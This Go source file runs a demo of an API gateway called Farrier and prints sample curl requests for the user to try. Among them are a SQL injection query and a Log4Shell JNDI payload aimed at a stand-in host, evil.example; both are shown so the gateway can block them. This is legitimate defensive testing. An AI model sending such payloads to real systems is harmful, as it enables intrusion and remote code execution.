package app

import (
	"context"
	_ "embed"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"time"
)

//go:embed demo/manifests.yaml
var demoManifests string

//go:embed demo/orders.raml
var demoDescription []byte

// demoPassword is the password of the demo's administrator; it guards nothing.
const demoPassword = "demo-only"

// Demo runs farrier serve with a sample API behind it and prints requests to
// try. Everything it writes lies in a folder that is removed at the end.
func Demo(ctx context.Context, cfg Config, listen string, log *slog.Logger, out io.Writer) error {
	dir, err := os.MkdirTemp("", "farrier-demo-")
	if err != nil {
		return fmt.Errorf("making a folder for the demo: %w", err)
	}
	defer func() { _ = os.RemoveAll(dir) }()
	sample, err := serveSample(ctx, log)
	if err != nil {
		return err
	}
	defer sample.close(context.WithoutCancel(ctx))
	if listen, err = freeAddress(ctx, listen); err != nil {
		return err
	}
	if cfg.Console != "off" {
		if cfg.Console, err = freeAddress(ctx, cfg.Console); err != nil {
			return err
		}
	}
	text := strings.NewReplacer("GATEWAY", "http://"+listen, "SAMPLE", sample.url, "$DEMO_PASSWORD", demoPassword).Replace(demoManifests)
	manifests := filepath.Join(dir, "manifests")
	if err := os.Mkdir(manifests, 0o700); err != nil {
		return fmt.Errorf("making a folder for the demo: %w", err)
	}
	file := filepath.Join(manifests, "orders.yaml")
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		return fmt.Errorf("writing the demo's manifests: %w", err)
	}
	if err := os.WriteFile(filepath.Join(manifests, "orders.raml"), demoDescription, 0o600); err != nil {
		return fmt.Errorf("writing the demo's description: %w", err)
	}
	cfg.Access.SecondFactor = "optional" // two clicks to the first page
	cfg.Discovery.AcceptMinutes = 1      // nobody waits for the next minute in a demo
	cfg.Manifests, cfg.Data, cfg.Gateway = []string{manifests}, filepath.Join(dir, "data"), "demo"
	return Serve(ctx, cfg, log, io.Discard, func(r Ready) { printDemo(out, "http://"+listen, file, r) })
}

// freeAddress is the address, or another port of its host when it is taken.
func freeAddress(ctx context.Context, address string) (string, error) {
	var listen net.ListenConfig
	ln, err := listen.Listen(ctx, "tcp", address)
	if err != nil {
		host, _, splitErr := net.SplitHostPort(address)
		if splitErr != nil {
			return "", fmt.Errorf("address %q: %w", address, splitErr)
		}
		if ln, err = listen.Listen(ctx, "tcp", net.JoinHostPort(host, "0")); err != nil {
			return "", fmt.Errorf("finding a free port: %w", err)
		}
	}
	free := ln.Addr().String()
	return free, ln.Close()
}

func printDemo(out io.Writer, gateway, file string, r Ready) {
	api := gateway + "/api"
	_, _ = fmt.Fprintf(out, `Farrier is up.
  gateway  %s
  console  %s
  manifest %s

Sign in to the console (once, within 15 minutes):
  %s

Try these:
  1. An ordinary request                                    → 200
     curl -i '%s/orders/7'
  2. SQL injection in the query                             → 403
     curl -i '%s/orders?id=1%%27%%20OR%%20%%271%%27=%%271%%27--%%20'
  3. Log4Shell in a JSON body                               → 403
     curl -i '%s/orders' -H 'Content-Type: application/json' -d '{"note":"${jndi:ldap://evil.example/a}"}'
  4. No password for the administration                     → 401; with -u ada:%s → 200
     curl -i '%s/admin/stock'
  5. Six reports within ten seconds, where five are allowed → five times 200, then 429
     for i in 1 2 3 4 5 6; do curl -s -o /dev/null -w '%%{http_code}\n' '%s/reports/daily'; done
  6. Customers, whom no description knows, and orders with more than theirs says
     for i in 1 2 3; do curl -s '%s/customers/'$i '%s/orders/7'; done
     The inventory of the console then shows a shadow operation, drift and the data in them.

Then look up "why was this refused?" in the console: every answer carries its
id in x-correlation-id. Stop with Ctrl-C.
`, gateway, r.Console, file, r.Link, api, api, api, demoPassword, api, api, api, api)
}

// serveSample runs the API behind the demo on a free port.
func serveSample(ctx context.Context, log *slog.Logger) (*page, error) {
	ln, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("starting the sample API: %w", err)
	}
	return servePage(ln, sampleAPI(time.Now), log), nil
}
